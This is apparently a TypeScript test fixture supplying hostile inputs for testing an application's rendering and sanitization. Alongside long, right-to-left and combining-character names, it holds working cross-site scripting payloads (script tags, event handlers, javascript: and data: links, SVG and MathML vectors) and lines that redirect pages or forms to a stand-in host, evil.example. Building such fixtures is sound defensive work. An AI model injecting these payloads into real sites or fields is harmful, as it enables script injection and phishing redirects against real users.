/** Code that sets a flag if content is executed as script or markup. */
const RUN = `globalThis.hacked=1`;

const LONG_WORD = 'Maximilianaetxeberriagoikoetxea'.repeat(4).slice(0, 120);
const LONG_NAME = 'María del Carmen Fernández de Villaverde y Etxeberria Goikoetxea '
  .repeat(2)
  .slice(0, 120);

/** Real names that break layouts, and names that attack templates. */
export const HOSTILE_NAMES = {
  long: LONG_NAME.trim(),
  unbroken: LONG_WORD,
  arabic: 'فاطمة (الزهراء) بنت محمد',
  hebrew: 'שרה בת־אברהם',
  mixed: 'Sara \u202Eנוימן\u202C Gil',
  combining: 'Z\u0351\u036B\u0343\u036A\u0302a\u0337\u0315l\u0338g\u0335o\u0338 Ruiz',
  emoji: '👩‍👩‍👧‍👦🎭',
  chinese: '周 美玲',
  markup: `</title></script><script>${RUN}</script><img src=x onerror="${RUN}">`,
  attribute: `"' onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  comment: '<!--><svg onload=globalThis.hacked=1>-->]]>',
  template: '{{agency}} $t(common:skip) ${1} %s \\u003cscript>',
} as const;

/** A text with every attack. */
export const HOSTILE_TEXT = [
  HOSTILE_NAMES.markup,
  HOSTILE_NAMES.attribute,
  HOSTILE_NAMES.comment,
  HOSTILE_NAMES.template,
  `[a](javascript:${RUN}) <javascript:${RUN}> [b](data:text/html,<script>${RUN}</script>)`,
  `<svg><a xlink:href="javascript:${RUN}"><rect width=9 height=9></a></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<style>*{display:none}</style><base href="https://evil.example/"><form action="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `\u2028\u2029 \u202E ${HOSTILE_NAMES.arabic} ${HOSTILE_NAMES.combining}`,
].join('\n\n');

/** The same text in one line, for short fields. */
export const HOSTILE_LINE = HOSTILE_TEXT.replace(/\s+/g, ' ');

let next = 0;

/**
 * Returns a part of the hostile text of at most `max` characters. Successive calls return all parts
 * in turn, so that several short fields contain every attack.
 */
export function hostilePart(max: number): string {
  const attacks = HOSTILE_TEXT.split(/\s*\n\n/);
  const attack = attacks[next++ % attacks.length] ?? '';
  return attack.slice(0, max).trim().toWellFormed();
}
